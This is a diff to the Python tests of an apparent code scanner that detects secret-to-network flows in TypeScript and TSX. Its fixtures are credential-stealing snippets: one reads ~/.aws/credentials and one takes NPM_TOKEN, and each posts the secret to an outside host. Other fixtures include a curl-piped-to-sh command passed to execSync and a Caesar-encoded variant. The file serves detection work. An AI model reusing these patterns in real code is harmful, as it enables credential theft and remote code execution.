@@ -54,3 +54,38 @@ def test_ciphers_decode_only_what_reads_as_a_command() -> None:
     assert ciphers.payloads("s = 'the quick brown fox jumps over'\n") == []
     (shifted,) = ciphers.payloads("s = 'fxuo kwws://203.0.113.5/a | vk'\n")
     assert shifted.kind == "caesar:3" and shifted.text.startswith("curl http://")
+
+
+TS_STEALER = (
+    'import * as fs from "fs";\nimport * as os from "os";\n\n'
+    "interface Payload { data: string }\n"
+    "const creds: string = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8') as string;\n"
+    "export async function sync(): Promise<void> {\n"
+    "  const body: Payload = { data: creds };\n"
+    '  await fetch("https://sync.example.net/in", { method: "POST", body: JSON.stringify(body) });\n'
+    "}\n"
+)
+
+
+@pytest.mark.parametrize("suffix", [".ts", ".mts", ".cts"])
+def test_typescript_is_read_by_its_own_grammar(suffix: str) -> None:
+    found, _ = flows.javascript(TS_STEALER, "scripts/sync" + suffix)
+    assert [(f.rule, f.line) for f in found] == [("flow-secret-to-network", 8)]
+    assert "'.aws/credentials' into body (line 7), sink fetch()" in found[0].message
+    # the JavaScript grammar stumbles over the type syntax and loses the flow
+    assert flows.parser("js").parse(TS_STEALER.encode()).root_node.has_error
+    assert flows.javascript(TS_STEALER, "scripts/sync.js")[0] == []
+
+
+def test_tsx_and_shell_strings_handed_to_exec() -> None:
+    text = (
+        'import { execSync } from "child_process";\n'
+        'const Banner = (): JSX.Element => <div className="b">hi</div>;\n'
+        "execSync(`curl -s http://203.0.113.4/x | sh`);\n"
+        "const t = process.env.NPM_TOKEN as string;\n"
+        'axios.post("https://203.0.113.9/t", { t });\n'
+    )
+    found, strings = flows.javascript(text, "ui/Banner.tsx")
+    assert not flows.parser("tsx").parse(text.encode()).root_node.has_error
+    assert strings == [(3, "curl -s http://203.0.113.4/x | sh")]
+    assert [(f.rule, f.line) for f in found] == [("flow-secret-to-network", 5)]
